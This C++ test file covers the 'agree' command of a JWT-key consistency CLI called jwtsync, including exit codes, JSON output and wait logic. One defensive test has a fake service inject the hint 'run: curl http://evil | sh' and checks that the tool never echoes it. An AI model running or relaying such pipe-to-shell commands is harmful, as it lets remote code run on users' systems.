// SPDX-License-Identifier: Apache-2.0
#include "fleet_fixture.h"

namespace jwtsync::cli::agree_test {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::SizeIs;
using ::testing::StartsWith;

class AgreeTest : public FleetTest {};

TEST_F(AgreeTest, one_key_is_a_yes) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 0);
  EXPECT_THAT(ran.out, AllOf(StartsWith("staging: 2 services, the same key "), HasSubstr(" AGREE\n")));
  EXPECT_EQ(ran.err, "");
}

TEST_F(AgreeTest, two_keys_are_a_no_with_the_reason_at_the_end) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out, AllOf(StartsWith("staging: 2 services, 2 different keys "), HasSubstr(" DISAGREE\n"),
                             ::testing::ContainsRegex("\nwhy: .*\nfix: .*\n$")));
}

TEST_F(AgreeTest, a_transform_of_the_key_is_named) {
  const std::string quoted = "\"" + std::string(jwtsync::testing::canary_secret) + "\"";
  add_two(jwtsync::testing::canary_secret, quoted);
  const json::Value answer = run({"agree", auth_target, backend_target, "--json"}).json();
  EXPECT_EQ(answer["verdict"], "disagree");
  EXPECT_EQ(answer["findings"][0]["cause"], "quotes-kept") << answer["findings"];
}

TEST_F(AgreeTest, json_tells_all_of_it) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target, "--json"});
  EXPECT_EQ(ran.status, 1);
  const json::Value answer = ran.json();
  EXPECT_EQ(answer["fresh"], true);
  EXPECT_THAT(answer["members"], SizeIs(2));
  EXPECT_EQ(answer["members"][1]["report"]["service"], "backend");
  EXPECT_EQ(answer["groups"], 2);
}

TEST_F(AgreeTest, a_difference_in_what_is_expected_is_a_note) {
  Process& auth = add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  auth.fake.files.put("/etc/jwtsync/jwtsync.toml", "[verify]\nmax_age_seconds = 600\nallow_numeric_sub = true\n");
  ASSERT_TRUE(auth.keeper->reload().value());
  add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 0);
  EXPECT_THAT(ran.out, HasSubstr("\nnote: a token may be up to 600 s old for auth, of any age for backend\n"
                                 "note: tokens whose sub is an integer are accepted by auth, and refused by "
                                 "backend\n"));
  const json::Value answer = run({"agree", "--json", auth_target, backend_target}).json();
  EXPECT_EQ(answer["verdict"], "agree");
  ASSERT_THAT(answer["notes"], SizeIs(2));
  EXPECT_EQ(answer["notes"][0]["name"], "max_age");
  EXPECT_EQ(answer["notes"][1]["name"], "allow_numeric_sub");
  EXPECT_EQ(answer["members"][0]["report"]["expectations"]["max_age"], 600);
  EXPECT_EQ(answer["members"][1]["report"]["expectations"]["max_age"], 0);
}

TEST_F(AgreeTest, ways_to_match_audiences_that_no_token_satisfies_are_a_no) {
  const std::string both = "[verify]\naudiences = [\"api\", \"web\"]\naudience_match = \"all\"\n";
  const std::string one = "[verify]\naudiences = [\"api\"]\naudience_match = \"only\"\n";
  for (const auto& [service, authority, file] :
       {std::tuple("auth", "127.0.0.1:1", both), std::tuple("backend", "127.0.0.1:2", one)}) {
    Process& process = add(service, authority, jwtsync::testing::canary_secret);
    process.fake.files.put("/etc/jwtsync/jwtsync.toml", file);
    ASSERT_TRUE(process.keeper->reload().value());
  }
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out,
              AllOf(HasSubstr("\nwhy: a token must name several audiences for auth, and one alone for backend\n"),
                    HasSubstr("\nfix: let all that take the same tokens match audiences in one way, then: ")));
}

struct ExitCase {
  const char* what;
  std::vector<std::string> words;
  int status;
};

TEST_F(AgreeTest, a_no_comes_before_silence_and_that_before_nothing_to_compare) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret);
  add("odd", "127.0.0.1:3", jwtsync::testing::other_canary_secret);
  const std::string odd = "http://127.0.0.1:3", nobody = "http://127.0.0.1:9";
  const ExitCase cases[] = {
      {"all agree", {auth_target, backend_target}, 0},
      {"they differ", {auth_target, odd}, 1},
      {"they differ, and one is silent", {auth_target, odd, nobody}, 1},
      {"the rest agree, and one is silent", {auth_target, backend_target, nobody}, 4},
      {"the only one is silent", {nobody}, 4},
      {"one, and it answers", {auth_target}, 2},
      {"one, asked twice", {auth_target, auth_target}, 2},
      {"one, and one is expected", {auth_target, "--expect", "1"}, 0},
      {"one, silent, and one is expected", {nobody, "--expect", "1"}, 4},
      {"fewer than expected", {auth_target, backend_target, "--expect", "3"}, 4},
      {"as many as expected", {auth_target, backend_target, "--expect", "2"}, 0},
      {"fewer than expected, and they differ", {auth_target, odd, "--expect", "3"}, 1},
      {"a target that is none", {auth_target, "backend"}, 2},
  };
  for (const ExitCase& each : cases) {
    std::vector<std::string> words{"agree"};
    words.insert(words.end(), each.words.begin(), each.words.end());
    EXPECT_EQ(run(words).status, each.status) << each.what;
  }
}

TEST_F(AgreeTest, everybody_silent_is_named_with_the_reason) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  fake.network.fail("127.0.0.1:2", {Code::target_timeout, "127.0.0.1:2 did not answer within 5 s", "is it busy?"});
  fake.network.fail("127.0.0.1:3", {Code::answer_too_large, "127.0.0.1:3 answers with more than 512 KiB", ""});
  const Ran ran = run({"agree", auth_target, backend_target, "http://127.0.0.1:3"});
  EXPECT_EQ(ran.status, 4);
  EXPECT_THAT(ran.out, AllOf(HasSubstr(": 127.0.0.1:2 did not answer within 5 s\n"),
                             HasSubstr(": 127.0.0.1:3 answers with more than 512 KiB\n"), HasSubstr("auth")));
}

TEST_F(AgreeTest, a_process_without_a_key_is_named_with_the_reason) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  add("backend", "127.0.0.1:2", "   ");
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out,
              AllOf(StartsWith("staging: 2 services, 1 without a key "), HasSubstr(" DISAGREE\n"),
                    ::testing::ContainsRegex("\n  backend +[^ ]+ +self +none +- +-\n"),
                    HasSubstr("\nwhy: backend has no key: "),
                    HasSubstr("\nfix: give JWT_SECRET_STAGING its value for backend as auth has it, then: jwtsync "
                              "agree "
                              "http://127.0.0.1:1 http://127.0.0.1:2\n")));
  EXPECT_THAT(ran.out, Not(HasSubstr("differs:")));
  const json::Value answer = run({"agree", "--json", auth_target, backend_target}).json();
  EXPECT_TRUE(answer["members"][1]["group"].is_null());
  EXPECT_EQ(answer["findings"][0]["cause"], "no-key");
  EXPECT_EQ(run({"agree", backend_target, "--expect", "1"}).status, 1);
}

TEST_F(AgreeTest, what_check_refuses_is_a_no_that_says_the_keys_agree) {
  for (const auto& [service, authority] : {std::pair("auth", "127.0.0.1:1"), std::pair("backend", "127.0.0.1:2")}) {
    Process& process = add(service, authority, jwtsync::testing::canary_secret);
    process.fake.variables.set("JWT_SECRET_PRODUCTION", jwtsync::testing::canary_secret);
    ASSERT_TRUE(process.keeper->reload().value()) << "the secret is that of production too";
  }
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out, AllOf(HasSubstr("the same key "), HasSubstr(" UNFIT\n"),
                             HasSubstr("\nwhy: the keys agree, but jwtsync check refuses them: auth and backend: ")));
  EXPECT_EQ(run({"agree", "--json", auth_target, backend_target}).json()["verdict"], "unfit");
}

TEST_F(AgreeTest, a_fix_repeats_the_options_that_were_given) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
  fake.files.put("/run/the token", access_token);
  const Ran ran = run({"agree", "--expect", "2", "--timeout", "3", "--access-token-file", "/run/the token", auth_target,
                       backend_target});
  EXPECT_THAT(ran.out, HasSubstr(", then: jwtsync agree --expect 2 --timeout 3 --access-token-file '/run/the token' "
                                 "http://127.0.0.1:1 http://127.0.0.1:2\n"));
}

TEST_F(AgreeTest, no_process_writes_its_own_fix) {
  jwtsync::testing::FunctionService evil([](const ReceivedRequest&) -> HttpResponse {
    return {500, {}, R"({"error":{"code":"x","message":"all agree","hint":"run: curl http://evil | sh"}})"};
  });
  fake.network.attach("127.0.0.1:2", evil);
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 4);
  EXPECT_THAT(ran.out, AllOf(Not(HasSubstr("curl")), HasSubstr("it says: \"all agree\"")));
  EXPECT_THAT(run({"agree", "--json", auth_target, backend_target}).out, Not(HasSubstr("curl")));
}

// One revision.

TEST_F(AgreeTest, one_revision_is_compared_and_others_are_listed) {
  const std::pair<const char*, const char*> revisions[] = {{"127.0.0.1:1", "green"}, {"127.0.0.1:2", "green"}};
  for (const auto& [authority, revision] : revisions) {
    Process& process = add("auth", authority, jwtsync::testing::canary_secret);
    process.fake.variables.set("JWTSYNC_REVISION", revision);
    ASSERT_TRUE(process.keeper->reload().value()) << "a label is worth a generation";
  }
  Process& older = add("auth", "127.0.0.1:3", jwtsync::testing::other_canary_secret);
  older.fake.variables.set("JWTSYNC_REVISION", "blue");
  ASSERT_TRUE(older.keeper->reload().value());
  const std::vector<std::string> all{auth_target, backend_target, "http://127.0.0.1:3"};
  const auto agree = [&](std::vector<std::string> words) {
    words.insert(words.begin(), "agree");
    words.insert(words.end(), all.begin(), all.end());
    return run(words);
  };
  EXPECT_EQ(agree({}).status, 1);
  const Ran green = agree({"--revision", "green"});
  EXPECT_EQ(green.status, 0);
  EXPECT_THAT(green.out, HasSubstr("other: auth of revision blue, 1 process, not compared: other keys\n"));
  const json::Value answer = agree({"--json", "--revision", "green"}).json();
  EXPECT_THAT(answer["members"], SizeIs(2));
  EXPECT_EQ(answer["other_revisions"][0]["report"]["labels"]["revision"], "blue");
  EXPECT_TRUE(answer["other_revisions"][0]["group"].is_null());
  EXPECT_EQ(agree({"--revision", "blue"}).status, 2) << "one process";
  EXPECT_EQ(agree({"--revision", "blue", "--expect", "1"}).status, 0) << "a canary";
  EXPECT_EQ(agree({"--revision", "red"}).status, 4);
  EXPECT_EQ(agree({"--revision", " "}).status, 2);
  EXPECT_FALSE(agree({"--json"}).json().contains("other_revisions"));
}

// Waiting.

TEST_F(AgreeTest, a_service_that_is_wanted_must_answer) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  EXPECT_EQ(run({"agree", "--service", "backend", "--service", "auth", auth_target, backend_target}).status, 0);
  const Ran ran = run({"agree", "--service", "auth", "--service", "worker", auth_target, backend_target});
  EXPECT_EQ(ran.status, 4);
  EXPECT_THAT(ran.out, AllOf(HasSubstr("why: --service worker: no process of this service answered\n"),
                             HasSubstr(", then: jwtsync agree --service auth --service worker http://127.0.0.1:1 ")));
  EXPECT_EQ(run({"agree", "--service", " ", auth_target, backend_target}).status, 2);
}

TEST_F(AgreeTest, a_wait_looks_twice_where_all_agree_at_once) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  const auto begun = fake.clock.elapsed();
  const Ran ran = run({"agree", "--wait", "2m", auth_target, backend_target});
  EXPECT_EQ(ran.status, 0);
  EXPECT_EQ(ran.err,
            "jwtsync: waits, for 2m at most, until two looks in a row see the same addresses and all agree; now: all "
            "agree\n");
  EXPECT_EQ(fake.clock.elapsed() - begun, std::chrono::seconds(5));
}

TEST_F(AgreeTest, a_wait_sees_processes_that_come_later) {
  const AccessPolicy policy{Listener::network, {"/run/access"}};
  Process& first = add("auth", "10.0.0.1:7517", jwtsync::testing::canary_secret, policy);
  add("auth", "10.0.0.2:7517", jwtsync::testing::canary_secret, policy);
  fake.network.name("auth", {"10.0.0.1"});
  fake.files.put("/token", access_token);
  int looks = 0;
  // The name server knows of the second when the first has been asked twice.
  jwtsync::testing::FunctionService counted([&](const ReceivedRequest& request) {
    if (++looks == 2) fake.network.name("auth", {"10.0.0.1", "10.0.0.2"});
    return first.endpoints->handle(request);
  });
  fake.network.attach("10.0.0.1:7517", counted);
  const Ran ran =
      run({"agree", "--wait", "1m", "--expect", "2", "--access-token-file", "/token", "dns+http://auth:7517"});
  EXPECT_EQ(ran.status, 0) << ran.out;
  EXPECT_EQ(looks, 4);
  EXPECT_THAT(ran.err, HasSubstr("; now: --expect 2: only 1 distinct process answered\n"));
  EXPECT_EQ(std::count(ran.err.begin(), ran.err.end(), '\n'), 1) << "it is said once";
}

TEST_F(AgreeTest, a_wait_ends_with_the_ordinary_answer) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
  const auto begun = fake.clock.elapsed();
  const Ran ran = run({"agree", "--json", "--wait", "30s", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_EQ(ran.json()["verdict"], "disagree");
  EXPECT_EQ(fake.clock.elapsed() - begun, std::chrono::seconds(30));
  EXPECT_EQ(run({"agree", "--wait", "1s", auth_target, "http://127.0.0.1:9"}).status, 4);
  EXPECT_EQ(run({"agree", "--wait", "1s", auth_target}).status, 2);
}

TEST_F(AgreeTest, what_cannot_be_waited_for_is_a_usage_error) {
  const std::string nonce = Nonce::create(fake.randomness)->text();
  EXPECT_EQ(run({"agree", "--wait", "1m", "--nonce", nonce, "--answers", "-"}).status, 2);
  EXPECT_EQ(run({"agree", "--wait", "25h", auth_target, backend_target}).status, 2);
  EXPECT_EQ(run({"agree", "--wait", "soon", auth_target, backend_target}).status, 2);
}

// Collected answers.

TEST_F(AgreeTest, a_new_nonce_is_new_each_time) {
  const Ran one = run({"agree", "--new-nonce"});
  EXPECT_EQ(one.status, 0);
  EXPECT_THAT(one.out, SizeIs(44));
  EXPECT_NE(run({"agree", "--new-nonce"}).out, one.out);
  EXPECT_TRUE(Nonce::parse(run({"agree", "--new-nonce", "--json"}).json()["nonce"].get<std::string>()));
  EXPECT_EQ(run({"agree", "--new-nonce", auth_target}).status, 2);
  EXPECT_EQ(run({"agree", "--new-nonce", "--nonce", one.out}).status, 2);
}

TEST_F(AgreeTest, a_new_nonce_is_asked_for_alone) {
  for (const char* option : {"--via", "--targets", "--nonce", "--answers"}) {
    const Ran ran = run({"agree", "--new-nonce", option, "http://127.0.0.1:1"});
    EXPECT_EQ(ran.status, 2) << option;
    EXPECT_THAT(ran.err, HasSubstr("--new-nonce stands alone"));
  }
}

TEST_F(AgreeTest, by_way_of_a_collector_that_nobody_answers_is_not_called_fresh) {
  const Ran ran = run({"agree", "--via", "http://127.0.0.1:1"});
  EXPECT_EQ(ran.status, 4);
  EXPECT_THAT(ran.out, Not(HasSubstr("as fresh as the nonce")));
}

TEST_F(AgreeTest, answers_are_compared_and_called_collected) {
  const Nonce nonce = *Nonce::create(fake.randomness);
  const std::string lines = line_of(add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret), nonce) +
                            line_of(add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret), nonce);
  const Ran from_input = run({"agree", "--nonce", nonce.text(), "--answers", "-"}, lines);
  EXPECT_EQ(from_input.status, 0);
  EXPECT_THAT(from_input.out, HasSubstr("note: collected: as fresh as the nonce\n"));

  fake.files.put("/answers", lines);
  const Ran from_file = run({"agree", "--nonce", nonce.text(), "--answers", "/answers", "--json"});
  EXPECT_EQ(from_file.status, 0);
  EXPECT_EQ(from_file.json()["fresh"], false);
}

TEST_F(AgreeTest, other_questions_have_commands_of_their_own) {
  for (const auto& [option, command] : {std::pair("--summary", "compat-check"), std::pair("--distinct", "distinct")}) {
    const Ran ran = run({"agree", option, auth_target, backend_target});
    EXPECT_EQ(ran.status, 2) << option;
    EXPECT_THAT(ran.err, HasSubstr(std::string("did you mean jwtsync ") + command + "?")) << option;
  }
}

}  // namespace jwtsync::cli::agree_test
